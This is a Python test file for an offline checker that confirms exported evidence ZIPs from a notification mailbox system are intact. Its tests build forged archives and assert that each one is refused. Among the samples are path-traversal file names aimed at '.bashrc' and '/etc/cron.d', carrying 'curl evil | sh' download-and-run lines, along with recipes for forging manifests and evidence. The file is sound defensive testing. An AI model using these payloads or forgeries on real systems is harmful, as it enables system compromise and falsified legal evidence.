"""What someone holding an export ZIP might do to fool the offline check, and the check
refusing it: a ZIP made from scratch, files added, evidence taken out, the manifest's words
rewritten. Each case was once accepted as "ÍNTEGRA" (see the review of the export)."""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import os
import random
import re
import shutil
import subprocess
import sys
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from evidence import keys, offline
from evidence.actions import seal
from evidence.models import Checkpoint
from evidence.tests.zips import export, read, rewrite, trusted_key, write
from tests import factories

pytestmark = pytest.mark.django_db

FORGED = b"%PDF-1.4\n% Resolucion: se DENIEGA y se impone multa\n%%EOF\n"
UNSIGNED = (
    "el manifiesto no está firmado: no se puede saber si lo generó la entidad ni si la "
    "exportación está completa"
)
BROKEN_SIGNATURE = (
    "la firma del manifiesto no es válida: el manifiesto se modificó después de que la "
    "entidad lo firmara"
)


def verdict(path: Path, tmp_path: Path, capsys: Any, *extra: str) -> tuple[int, str]:
    """What a person sees running `python -m evidence.offline buzon.zip --clave agencia.pub`."""
    capsys.readouterr()
    status = offline.main([str(path), "--clave", str(trusted_key(tmp_path)), *extra])
    captured = capsys.readouterr()
    return status, captured.out + captured.err


def refused(path: Path, tmp_path: Path, capsys: Any, *messages: str) -> str:
    status, out = verdict(path, tmp_path, capsys)
    assert status == 1, out
    assert "ALTERADA O INCOMPLETA" in out
    assert "ÍNTEGRA" not in out
    for message in messages:
        assert f"  - {message}" in out, out
    return out


def add_listed(path: Path, name: str, data: bytes, *, resign: bool = False) -> None:
    """Add a file and list it in the manifest with its own hash, as a forger would."""
    files, manifest = read(path)
    files[name] = data
    manifest["files"][name] = {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}
    if resign:
        manifest["signature"] = keys.current_key().sign(offline.signed_bytes(manifest))
    write(path, files, manifest)


def test_a_genuine_export_is_integra(mailbox, tmp_path, capsys):
    status, out = verdict(export(mailbox, tmp_path), tmp_path, capsys)
    assert status == 0, out
    assert "ÍNTEGRA" in out


def test_a_zip_made_from_scratch_is_refused(mailbox, tmp_path, capsys):
    """No checkpoint, no entry, a forged PDF listed in an unsigned manifest."""
    name = "notificaciones/0001-00000000-0000-0000-0000-000000000000/adjuntos/1-resolucion.pdf"
    manifest = {
        "format": offline.FORMAT,
        "type": offline.EXPORT_TYPE,
        "agency": "Superintendencia Nacional de Migraciones",
        "holder": {"id": 1, "name": "Juan Pérez", "document": "DNI 12345678"},
        "generated_at": "2026-11-29T00:00:00.000000Z",
        "scope": {"procedure": None, "procedure_id": None},
        "notifications": [],
        "entries": [],
        "checkpoints": [],
        "public_keys": {},
        "files": {name: {"sha256": hashlib.sha256(FORGED).hexdigest(), "size": len(FORGED)}},
        "entries_left_for_the_next_checkpoint": 0,
    }
    path = tmp_path / "fabricada.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("manifest.json", json.dumps(manifest))
        archive.writestr(name, FORGED)
    refused(
        path,
        tmp_path,
        capsys,
        UNSIGNED,
        "no trae ningún registro de evidencia: la exportación está incompleta",
    )


def test_a_forged_attachment_added_and_listed_is_refused(mailbox, tmp_path, capsys):
    path = export(mailbox, tmp_path)
    with zipfile.ZipFile(path) as archive:
        folder = next(n for n in archive.namelist() if "/adjuntos/" in n).rsplit("/", 1)[0]
    add_listed(path, f"{folder}/999-resolucion_sancion.pdf", FORGED)
    refused(path, tmp_path, capsys, BROKEN_SIGNATURE)


@pytest.mark.parametrize(
    "kinds",
    [
        # The person: "I never opened it".
        ("notification_opened", "notification_viewed", "attachment_downloaded"),
        # Or the date it took effect, and with it the deadline to answer.
        ("notification_effective",),
    ],
)
def test_evidence_entries_taken_out_are_refused(mailbox, tmp_path, capsys, kinds):
    path = export(mailbox, tmp_path)

    def change(files: dict[str, bytes], manifest: dict[str, Any]) -> None:
        before = len(manifest["entries"])
        manifest["entries"] = [
            e for e in manifest["entries"] if json.loads(e["canonical"])["kind"] not in kinds
        ]
        assert len(manifest["entries"]) < before

    rewrite(path, change)
    refused(path, tmp_path, capsys, BROKEN_SIGNATURE)


def test_a_whole_notification_taken_out_is_refused(mailbox, tmp_path, capsys):
    path = export(mailbox, tmp_path)

    def change(files: dict[str, bytes], manifest: dict[str, Any]) -> None:
        gone = manifest["notifications"].pop(1)
        folder = gone["content"].rsplit("/", 1)[0]
        for name in [n for n in files if n.startswith(folder + "/")]:
            del files[name]
            del manifest["files"][name]
        manifest["entries"] = [
            e
            for e in manifest["entries"]
            if json.loads(e["canonical"])["notification"] != gone["id"]
        ]

    rewrite(path, change)
    out = refused(path, tmp_path, capsys, BROKEN_SIGNATURE)
    assert "1 notificaciones" in out  # what the altered manifest claims, refused all the same


def test_the_manifests_words_rewritten_are_refused(mailbox, tmp_path, capsys):
    path = export(mailbox, tmp_path)

    def change(files: dict[str, bytes], manifest: dict[str, Any]) -> None:
        manifest["holder"] = {"name": "OTRA PERSONA", "document": "DNI 00000000"}
        manifest["generated_at"] = "2020-01-01T00:00:00.000000Z"

    rewrite(path, change)
    refused(path, tmp_path, capsys, BROKEN_SIGNATURE)


def test_a_certificate_dropped_from_the_manifest_is_refused(mailbox, tmp_path, capsys):
    path = export(mailbox, tmp_path)

    def change(files: dict[str, bytes], manifest: dict[str, Any]) -> None:
        gone = manifest["notifications"][0].pop("certificate")
        del files[gone["path"]]
        del manifest["files"][gone["path"]]

    rewrite(path, change)
    refused(path, tmp_path, capsys, BROKEN_SIGNATURE)


def test_a_manifest_signed_by_someone_else_is_refused(mailbox, tmp_path, capsys):
    path = export(mailbox, tmp_path)
    forger = Ed25519PrivateKey.generate()
    files, manifest = read(path)
    manifest["holder"]["name"] = "OTRA PERSONA"
    manifest["key"] = keys.key_id_of(forger.public_key())
    manifest["signature"] = forger.sign(offline.signed_bytes(manifest)).hex()
    write(path, files, manifest)
    refused(
        path,
        tmp_path,
        capsys,
        f"el manifiesto está firmado con una clave que no es de confianza ({manifest['key']})",
    )


def test_an_export_older_than_the_signed_manifest_is_called_incomplete(mailbox, tmp_path, capsys):
    path = export(mailbox, tmp_path)
    files, manifest = read(path)
    manifest["format"] = "buzon-export/1"
    del manifest["type"], manifest["key"], manifest["signature"]
    write(path, files, manifest)
    refused(
        path,
        tmp_path,
        capsys,
        "formato buzon-export/1, anterior a la firma del manifiesto: no se puede comprobar que "
        "la exportación esté completa; pida una exportación nueva",
    )


def test_after_a_key_rotation_both_keys_check_it(mailbox, tmp_path, capsys):
    """Checkpoints signed by the old key, the manifest by the new one: give both keys."""
    old = trusted_key(tmp_path).rename(tmp_path / "antigua.pub")
    keys.generate()
    path = export(mailbox, tmp_path)
    with zipfile.ZipFile(path) as archive:
        manifest = json.loads(archive.read("manifest.json"))
    assert manifest["key"] == keys.current_key().key_id
    assert {c["key_id"] for c in manifest["checkpoints"]} == {
        keys.current_key().key_id,
        keys.key_id_of(keys.trusted_public_keys()[manifest["checkpoints"][0]["key_id"]]),
    }

    status, out = verdict(path, tmp_path, capsys, "--clave", str(old))
    assert status == 0, out
    assert "ÍNTEGRA" in out

    capsys.readouterr()
    assert offline.main([str(path), "--clave", str(old)]) == 1
    assert (
        f"el manifiesto está firmado con una clave que no es de confianza ({manifest['key']})"
        in capsys.readouterr().out
    )


def test_an_export_without_evidence_entries_is_incomplete_even_if_signed(mailbox, tmp_path, capsys):
    path = export(mailbox, tmp_path)

    def change(files: dict[str, bytes], manifest: dict[str, Any]) -> None:
        manifest["entries"] = []

    rewrite(path, change, resign=True)
    refused(
        path,
        tmp_path,
        capsys,
        "no trae ningún registro de evidencia: la exportación está incompleta",
    )


def test_the_check_runs_from_a_bare_copy_of_four_files(mailbox, tmp_path):
    """A lawyer copies evidence/{__init__,chain,merkle,offline}.py and needs nothing else but
    `cryptography`: not Django, not the rest of Buzón."""
    path = export(mailbox, tmp_path)
    key = trusted_key(tmp_path)
    bare = tmp_path / "bare" / "evidence"
    bare.mkdir(parents=True)
    source = Path(offline.__file__).parent
    for name in ("__init__.py", "chain.py", "merkle.py", "offline.py"):
        shutil.copy(source / name, bare / name)
    run = (
        "import runpy, sys\n"
        "sys.modules['django'] = None  # importing it would fail\n"
        "sys.argv = ['offline', *sys.argv[1:]]\n"
        "runpy.run_module('evidence.offline', run_name='__main__')\n"
    )
    result = subprocess.run(  # noqa: S603 (our own interpreter and arguments)
        [sys.executable, "-c", run, str(path), "--clave", str(key)],
        cwd=bare.parent,
        env={"PATH": os.environ.get("PATH", ""), "PYTHONNOUSERSITE": "1"},
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert "ÍNTEGRA" in result.stdout


UNSAFE_NAMES = [
    "../../.bashrc",
    "/etc/cron.d/x",
    "notificaciones/../../../.profile",
    "notificaciones\\..\\..\\x.bat",
    "C:/Users/Public/x.bat",
    "notificaciones//x.pdf",
]


@pytest.mark.parametrize("name", UNSAFE_NAMES)
def test_a_name_that_could_land_outside_the_folder_is_refused(mailbox, tmp_path, capsys, name):
    """Listed in a manifest the agency signed, even: a ZIP tool would write it elsewhere."""
    path = export(mailbox, tmp_path)
    add_listed(path, name, b"* * * * * root curl evil | sh\n", resign=True)
    refused(
        path,
        tmp_path,
        capsys,
        f"{name}: nombre de archivo no permitido (al extraerlo podría quedar fuera de su carpeta)",
    )


def test_an_unlisted_file_with_such_a_name_is_refused(mailbox, tmp_path, capsys):
    path = export(mailbox, tmp_path)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("../../.bashrc", b"curl evil | sh\n")
    refused(
        path,
        tmp_path,
        capsys,
        "../../.bashrc: nombre de archivo no permitido (al extraerlo podría quedar fuera de su "
        "carpeta)",
    )


def manifest_replaced(path: Path, raw: bytes) -> None:
    files, _manifest = read(path)
    files["manifest.json"] = raw
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)


def a_fraction_in_an_entry(files: dict[str, bytes], manifest: dict[str, Any]) -> None:
    """Canonical JSON has no fractions; a JSON reader would take it, and choke on it later."""
    entry = manifest["entries"][0]
    entry["canonical"] = entry["canonical"].replace('"seq":', '"x":0.5,"seq":')
    entry["hash"] = hashlib.sha256(entry["canonical"].encode()).hexdigest()


@pytest.mark.parametrize(
    ("damage", "status", "message"),
    [
        (lambda path: path.write_bytes(b"PK not a zip"), 2, "no es un ZIP válido"),
        (lambda path: manifest_replaced(path, b"{no es json"), 2, "manifest.json no es JSON"),
        (lambda path: manifest_replaced(path, b"[]"), 2, "manifest.json no es un objeto JSON"),
        (
            lambda path: manifest_replaced(path, b'{"format": "x", "format": "buzon-export/2"}'),
            2,
            "una clave aparece dos veces",
        ),
        (
            lambda path: rewrite(path, lambda files, m: m.update(entries="todas"), resign=True),
            1,
            "el manifiesto no tiene la forma esperada (en manifiesto.entries)",
        ),
        (
            lambda path: rewrite(path, lambda files, m: m["files"].clear(), resign=True),
            1,
            "archivo añadido, no figura en el manifiesto",
        ),
        (
            lambda path: rewrite(path, a_fraction_in_an_entry, resign=True),
            1,
            "su contenido no corresponde a su huella (alterado)",
        ),
    ],
)
def test_a_damaged_zip_is_refused_in_spanish_without_a_traceback(
    mailbox, tmp_path, capsys, damage, status, message
):
    path = export(mailbox, tmp_path)
    damage(path)
    got, out = verdict(path, tmp_path, capsys)
    assert got == status, out
    assert message in out
    assert "ÍNTEGRA" not in out


ODD_VALUES = [None, True, -1, 10**30, "", "\ud800", "../x", [], {}, [1], {"a": 1}, "0" * 64]


def places(value: Any, where: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every place in a JSON value, as the keys and indexes that lead to it."""
    inner: list[tuple[Any, ...]] = []
    if isinstance(value, dict):
        for key, item in value.items():
            inner += places(item, (*where, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            inner += places(item, (*where, index))
    return [where, *inner] if where else inner


def test_odd_values_anywhere_in_the_manifest_never_crash_the_check(mailbox, tmp_path):
    """Any value replaced by one of another type, signed again or not: an answer, never a
    traceback."""
    path = export(mailbox, tmp_path)
    files, genuine = read(path)
    key = str(trusted_key(tmp_path))
    odd = tmp_path / "rara.zip"
    chance = random.Random(4)  # the same cases every run
    for attempt in range(300):
        manifest = json.loads(json.dumps(genuine))
        *route, last = chance.choice(places(manifest))
        parent = manifest
        for step in route:
            parent = parent[step]
        parent[last] = chance.choice(ODD_VALUES)
        if attempt % 3:
            with contextlib.suppress(UnicodeEncodeError):  # a lone surrogate cannot be signed
                manifest["signature"] = keys.current_key().sign(offline.signed_bytes(manifest))
        write(odd, dict(files), manifest)
        with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(io.StringIO()):
            assert offline.main([str(odd), "--clave", key]) in (0, 1, 2), (route, last)


def test_a_key_that_is_not_one_is_bad_input(mailbox, tmp_path, capsys):
    path = export(mailbox, tmp_path)
    not_a_key = tmp_path / "agencia.pub.txt"
    not_a_key.write_text("hola", encoding="utf-8")
    assert offline.main([str(path), "--clave", str(not_a_key)]) == 2
    assert (
        f"No se pudo leer la clave {not_a_key}: no es una clave pública Ed25519 (PEM)"
        in capsys.readouterr().err
    )


@pytest.mark.parametrize(
    ("change", "what"),
    [
        (lambda m: m["notifications"][1].update(effective_date="2030-12-31"), "effective_date"),
        (lambda m: m["notifications"][1].update(deadline_date="2030-12-31"), "deadline_date"),
        (lambda m: m["notifications"][0].update(content_sha256="0" * 64), "content_sha256"),
        (
            lambda m: m["notifications"][0]["attachments"][0].update(name="otro-documento.pdf"),
            "attachments",
        ),
        (lambda m: m["notifications"][0]["attachments"][0].update(sha256="f" * 64), "attachments"),
    ],
)
def test_what_the_manifest_says_must_be_what_the_entries_record(
    mailbox, tmp_path, capsys, change, what
):
    """Even signed by the agency's key: its system may have read edited rows."""
    path = export(mailbox, tmp_path)
    rewrite(path, lambda files, manifest: change(manifest), resign=True)
    out = refused(path, tmp_path, capsys)
    assert f": el manifiesto dice otra cosa que la evidencia ({what})" in out


def test_rows_edited_in_the_database_before_the_export_are_caught(mailbox, tmp_path, capsys):
    """No trigger guards these rows; the export signs what it reads, the entries tell."""
    notification = mailbox.procedure.notifications.get(subject="Aprobación de su CPP")
    type(notification).objects.filter(pk=notification.pk).update(effective_date=date(2030, 12, 31))
    notification.attachments.update(original_name="resolucion-DENIEGA.pdf")
    out = refused(export(mailbox, tmp_path), tmp_path, capsys)
    label = f"notificación {notification.public_id}"
    assert f"{label}: el manifiesto dice otra cosa que la evidencia (effective_date)" in out
    assert f"{label}: el manifiesto dice otra cosa que la evidencia (attachments)" in out


@pytest.mark.parametrize(
    "change",
    [
        lambda m: m["holder"].update(id=m["holder"]["id"] + 1),
        lambda m: m["scope"].update(procedure="LM269999999", procedure_id=999_999),
    ],
)
def test_entries_of_another_person_or_case_are_refused(mailbox, tmp_path, capsys, change):
    path = export(mailbox, tmp_path)
    rewrite(path, lambda files, manifest: change(manifest), resign=True)
    out = refused(path, tmp_path, capsys)
    assert ": es de otra persona o de otro trámite que la exportación" in out


def test_entries_left_out_because_unsealed_are_said(mailbox, tmp_path, capsys):
    path = export(mailbox, tmp_path)
    rewrite(path, lambda files, m: m.update(entries_left_for_the_next_checkpoint=2), resign=True)
    status, out = verdict(path, tmp_path, capsys)
    assert status == 0, out
    assert (
        "Nota: 2 registros posteriores al último punto de control quedaron fuera de la "
        "exportación (aún no estaban sellados); irán en una exportación posterior"
    ) in out


# --- A published checkpoint (--punto-de-control) -------------------------------------------


def latest() -> Checkpoint:
    checkpoint = Checkpoint.objects.order_by("-number").first()
    assert checkpoint is not None
    return checkpoint


def matches(number: int) -> str:
    return f"Nota: el punto de control n.° {number} coincide con el publicado"


def test_the_number_and_hash_the_agency_publishes_are_compared(mailbox, tmp_path, capsys):
    """operations.md: publish each checkpoint's number and statement hash. As verify_evidence
    --checkpoint takes them (N:HASH), in upper case too."""
    path = export(mailbox, tmp_path)
    checkpoint = latest()
    status, out = verdict(
        path,
        tmp_path,
        capsys,
        "--punto-de-control",
        f"{checkpoint.number}:{checkpoint.hash.upper()}",
    )
    assert status == 0, out
    assert matches(checkpoint.number) in out
    assert "ÍNTEGRA" in out

    other = "0" * 64
    status, out = verdict(
        path, tmp_path, capsys, "--punto-de-control", f"{checkpoint.number}:{other}"
    )
    assert status == 1, out
    assert f"  - el punto de control n.° {checkpoint.number} del ZIP no es el publicado" in out


@pytest.mark.parametrize(
    "published",
    [
        lambda cp: json.dumps({"number": cp.number, "hash": cp.hash}),
        lambda cp: cp.statement,  # the statement itself
        lambda cp: json.dumps(json.loads(cp.statement), indent=2),  # as someone saved it
        lambda cp: json.dumps({"number": cp.number, "statement": cp.statement}),
        lambda cp: f"{cp.number}:{cp.hash}\n",
    ],
    ids=["number-and-hash", "statement", "statement-indented", "number-and-statement", "line"],
)
def test_a_published_checkpoint_in_a_file_is_compared(mailbox, tmp_path, capsys, published):
    path = export(mailbox, tmp_path)
    checkpoint = latest()
    given = tmp_path / "publicado.json"
    given.write_text(published(checkpoint), encoding="utf-8")
    status, out = verdict(path, tmp_path, capsys, "--punto-de-control", str(given))
    assert status == 0, out
    assert matches(checkpoint.number) in out


def test_the_agencys_whole_published_list_is_compared_where_the_zip_has_them(
    mailbox, tmp_path, capsys
):
    path = export(mailbox, tmp_path)
    other = factories.register(doc_number="002223334")
    factories.deposit(other, subject="De otra persona")
    seal()  # a checkpoint this ZIP has no reason to carry
    published = [{"number": c.number, "hash": c.hash} for c in Checkpoint.objects.all()]
    given = tmp_path / "publicados.json"
    given.write_text(json.dumps(published), encoding="utf-8")
    status, out = verdict(path, tmp_path, capsys, "--punto-de-control", str(given))
    assert status == 0, out
    with zipfile.ZipFile(path) as archive:
        mine = [c["number"] for c in json.loads(archive.read("manifest.json"))["checkpoints"]]
    for number in mine:
        assert matches(number) in out
    assert f"no se compararon, los puntos de control dados n.° {latest().number} " in out


def test_the_checkpoint_a_certificate_in_the_zip_prints_can_be_compared(mailbox, tmp_path, capsys):
    """The certificate prints the latest checkpoint when it was issued, which may seal only
    other people's entries: the ZIP carries it all the same."""
    seal()
    other = factories.register(doc_number="002223334")
    factories.deposit(other, subject="De otra persona")
    seal()
    path = export(mailbox, tmp_path)
    with zipfile.ZipFile(path) as archive:
        name = next(n for n in archive.namelist() if "/constancia-" in n)
        printed = factories.pdf_text(archive.read(name))
    number = re.search(r"Último punto de control\s+N\.° (\d+)", printed)
    digest = re.search(r"Hash de la declaración\s+([0-9a-f]{64})", printed)
    assert number, printed
    assert digest, printed
    status, out = verdict(path, tmp_path, capsys, "--punto-de-control", f"{number[1]}:{digest[1]}")
    assert status == 0, out
    assert matches(int(number[1])) in out


def test_a_checkpoint_the_zip_does_not_carry_cannot_be_compared(mailbox, tmp_path, capsys):
    path = export(mailbox, tmp_path)
    with zipfile.ZipFile(path) as archive:
        mine = [c["number"] for c in json.loads(archive.read("manifest.json"))["checkpoints"]]
    status, out = verdict(path, tmp_path, capsys, "--punto-de-control", f"999:{'a' * 64}")
    assert status == 2, out
    assert "No se pudo comparar ningún punto de control dado: ninguno está en el ZIP." in out
    assert f"(el ZIP trae los n.° {', '.join(map(str, mine))})" in out
    assert "ÍNTEGRA" not in out


@pytest.mark.parametrize(
    "published",
    [
        "[]",
        "[1, 2]",
        "{}",
        '"hola"',
        '{"number": "1", "hash": "%s"}' % ("a" * 64),
        '{"number": true, "hash": "%s"}' % ("a" * 64),
        '{"number": 1, "hash": "no es un hash"}',
        '{"number": 1.5, "hash": "%s"}' % ("a" * 64),
        "1:abc",
        "no es nada",
    ],
)
def test_a_published_checkpoint_that_is_none_of_these_is_bad_input(
    mailbox, tmp_path, capsys, published
):
    path = export(mailbox, tmp_path)
    given = tmp_path / "publicado.json"
    given.write_text(published, encoding="utf-8")
    status, out = verdict(path, tmp_path, capsys, "--punto-de-control", str(given))
    assert status == 2, out
    assert f"No se pudo leer el punto de control publicado {given}: " in out
    assert "se espera N:HASH" in out
    assert "ÍNTEGRA" not in out


def test_a_published_checkpoint_file_that_is_missing_is_bad_input(mailbox, tmp_path, capsys):
    path = export(mailbox, tmp_path)
    status, out = verdict(path, tmp_path, capsys, "--punto-de-control", str(tmp_path / "no.json"))
    assert status == 2, out
    assert f"No se pudo leer el punto de control publicado {tmp_path / 'no.json'}: " in out
